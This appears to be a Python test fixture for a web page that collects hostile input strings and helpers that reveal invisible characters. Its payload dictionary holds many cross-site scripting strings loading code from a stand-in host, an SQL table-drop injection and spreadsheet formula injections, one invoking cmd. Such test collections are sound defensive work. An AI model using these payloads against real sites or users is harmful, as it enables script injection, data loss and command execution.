"""Strings that try to be more than text: each shows where a page takes what it is given for something else."""

import re
import unicodedata

_LINE_ENDS = "one\r\ntwo\rthree\nfour\n\rfive"
_CONTROLS = "".join(chr(at) for at in (*range(0x01, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F))

# Name → string. Whichever script of them runs sets `hacked` or opens a dialog; whatever is fetched is of evil.invalid.
HOSTILE = {
    # Scripts, and ways out of where text stands
    "script": "<script>hacked=1;alert('script')</script>",
    "script in capitals": "<SCRIPT SRC=//evil.invalid/a.js></SCRIPT>",
    "script with a slash": "<sCrIpT/x>hacked=1</sCrIpT/y>",
    "script in a script": "<scr<script>ipt>hacked=1</scr</script>ipt>",
    "script left open": "<script>hacked=1//",
    "script in a comment": "<!--<script>hacked=1",
    "module": "<script type=module>import('//evil.invalid/m.js')</script>",
    "end of script": "</script><script>hacked=1</script>",
    "end of script with blanks": "</SCRIPT\t\n ><script>hacked=1</script >",
    "end of style": "</style><style>@import '//evil.invalid/a.css';*{display:none}</style>",
    "end of title": "</title></textarea><script>hacked=1</script>",
    "end of noscript": "</noscript><img src=//evil.invalid/n onerror=hacked=1>",
    "end of all": "</p></li></article></main></body></html><script>hacked=1</script>",
    "percent": "%3Cscript%3Ehacked%3D1%3C/script%3E %",
    "entities": "&lt;script&gt;hacked=1&lt;/script&gt; &amp;amp; &copy &notin; &#60;b&#x3e; &#0; &Tab;",
    "escapes": "\\u003cscript\\u003ehacked=1\\u003c/script\\u003e \\x3c \\74",
    "full width": "＜script＞hacked=1＜/script＞",
    "seven bits": "+ADw-script+AD4-hacked=1+ADw-/script+AD4-",
    # Elements
    "image": "<img src=//evil.invalid/i onerror=hacked=1>",
    "image with quotes": '<IMG """><img src=\'x\' onerror="hacked=1">">',
    "drawing": "<svg/onload=hacked=1><script>hacked=1</script></svg>",
    "animation": "<svg><a><animate attributeName=href values=javascript:hacked=1 /><text y=20>x</text></a></svg>",
    "foreign object": "<svg><foreignObject><iframe src=javascript:hacked=1></iframe></foreignObject></svg>",
    "frame": '<iframe srcdoc="<script>parent.hacked=1</script>" src=//evil.invalid/f></iframe>',
    "mathematics": "<math><mtext><table><mglyph><style><img src onerror=hacked=1>",
    "disclosure": "<details ontoggle=hacked=1 open><summary>x</summary></details>",
    "objects": "<object data=//evil.invalid/o><embed src=//evil.invalid/e></object><video src=//evil.invalid/v>",
    "base and link": "<base href=//evil.invalid/><link rel=stylesheet href=a.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "form": "<form action=//evil.invalid/><input name=id autofocus onfocus=hacked=1><button formaction=//evil.invalid/>",
    "template": "<template shadowrootmode=open><slot onslotchange=hacked=1></slot></template>",
    "ids of our own": '<p id="tl-data">{}</p><a name="timeline">',
    "comment": "<!-- a --!> b --> <!DOCTYPE x [<!ENTITY y 'z'>]> &y;",
    "character data": "<![CDATA[<script>hacked=1</script>]]> ]]>",
    "instructions": "<?xml version='1.0'?><?php echo 1 ?><% hacked %>",
    "markup of charts": "<b>bold</b><br><i>i</i><sup>2</sup><a href='https://evil.invalid/'>a</a><extra></extra>",
    # Addresses
    "javascript": "javascript:hacked=1",
    "javascript in capitals": "JaVaScRiPt://evil.invalid/%0Ahacked=1",
    "javascript after blanks": " \u00a0javascript:void(hacked=1)",
    "javascript after a control": "\x01javascript:hacked=1",
    "javascript in pieces": "java\tscr\nipt:hacked=1",
    "javascript in entities": "javascript&colon;hacked=1 &#106;avascript&#58;hacked=1",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>opener.hacked=1</script>",
    "file": "file:///etc/hosts",
    "no scheme": "//evil.invalid/x",
    "link with markup": "https://evil.invalid/'\"><script>hacked=1</script>",
    "link with half a letter": "https://evil.invalid/\ud83d",
    "link with a blank": 'https://evil.invalid/" onmouseover="hacked=1',
    "half a host": "https://[half",
    # Quotes
    "double quotes": '" onmouseover=hacked=1 autofocus onfocus="hacked=1',
    "single quotes": "' onclick='hacked=1' x='",
    "no quotes": "x onload=hacked=1 style=position:fixed;inset:0",
    "backticks": "`-hacked=1-`${hacked=1}`",
    "end of a string": '\\"};hacked=1;//\\',
    "end of a rule": "}*{background:url(//evil.invalid/c)}/*",
    # Templates, formulas, names of programs' own
    "braces": "{{ hacked }} {% include 'page.html' %} {# x #} {n} {title} {constructor} {0}",
    "dollars": "${hacked=1} $hacked #{hacked} <%= hacked %>",
    "TeX": "$x^2$ $$\\href{javascript:hacked=1}{y}$$ \\(z\\)",
    "hover template": "%{text} %{customdata[0]} %{x|%Y}",
    "formats": "%s %n %x %(title)s {0!r} {} %",
    "replacement": "$& $1 $` $' \\1 \\g<0>",
    "SQL": "'; DROP TABLE events; --",
    "formula": '=HYPERLINK("https://evil.invalid/","x")',
    "formula of a shell": "@SUM(1)*cmd|' /C calc'!A0",
    "formula of signs": "-2+3+cmd",
    "address of the page": "#e-x?search=a&event=b=c%+d",
    "prototype": "__proto__",
    "constructor": "constructor",
    "method": "hasOwnProperty",
    # Letters
    "NUL": "a\x00b\x00<script\x00>hacked=1</script>",
    "controls": f"a{_CONTROLS}b",
    "upper controls": "a\x80\x85\x9b\x9fb",
    "terminal": "\x1b[31mred\x1b[0m\x07",
    "line ends": _LINE_ENDS,
    "first half of a letter": "a\ud800b",
    "second half of a letter": "\udc00b",
    "halves in the wrong order": "a\ude00\ud83d",
    "no characters": "a\ufffe\uffff\ufdd0b",
    "override": "\u202eflipped\u202c and \u202dforced",
    "isolates": "\u2067\u2066open\u2069 \u2068left open",
    "marks of direction": "\u200ea\u200fb\u061cc",
    "right to left": "سلام <b>دنیا</b> (۱۲)",
    "no width": "a\u200bb\u200cc\u200dd\u2060e\u00adf",
    "stack of accents": "Z" + "\u0301\u0322\u0353" * 20 + "a",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇮🇷 1️⃣ 🏴\U000e0067\U000e0062\U000e007f",
    "beyond 16 bits": "𝒜𐍈𠀀\U0010fffd",
    "separators": "a\u2028b\u2029c",
    "byte order mark": "\ufeffa\ufeffb",
    "blanks": "\u3000a\u2003b\u00a0c\u1680d",
    "long word": "Wörter" * 250,
    "long emoji": "😀" * 300,
    "case": "İıſK ß ﬁ Σς",
}

_TURNS = {*"\u061c\u200e\u200f\ufeff", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}


def show(text):
    """Return a text as a page has to show it: NUL and halves of letters as U+FFFD, lines parted by LF."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join("\ufffd" if letter == "\0" or "\ud800" <= letter <= "\udfff" else letter for letter in text)


def is_unseen(letter):
    """Return whether a letter shows nothing or turns the direction of text, apart from tab, line feed and joiners."""
    shows_nothing = unicodedata.category(letter) in ("Cc", "Cf", "Zl", "Zp") and letter not in "\t\n\u200c\u200d"
    return letter in _TURNS or letter in "\u034f\u115f\u1160\u2800\u3164\uffa0\ufffe\uffff" or shows_nothing


def split_unseen(text):
    """Return the parts of a text as the detail has to show it: each with whether it is the escape of a letter."""
    flags = re.split("(\U0001f3f4[\U000e0020-\U000e007e]+\U000e007f)", show(text))  # the flags of regions are seen
    for at, part in enumerate(flags):
        for letter in [part] if at % 2 else part:
            is_escape = at % 2 == 0 and is_unseen(letter)
            code = f"{ord(letter):04x}" if is_escape else ""
            yield (f"\\u{code}" if len(code) == 4 else f"\\U{code:0>8}") if is_escape else letter, is_escape


def show_unseen(text):
    """Return a text as the detail has to show it: letters that nobody would see as \\u202e."""
    return "".join(part for part, _ in split_unseen(text))


def collapse(text):
    """Return a text as a label has to show it: on one line, with single blanks."""
    return " ".join(show(text).split())


def is_web(text):
    """Return whether a text is an address to which a page may link."""
    return show(text).lower().startswith(("https://", "http://")) and not re.search(r"\s", show(text))
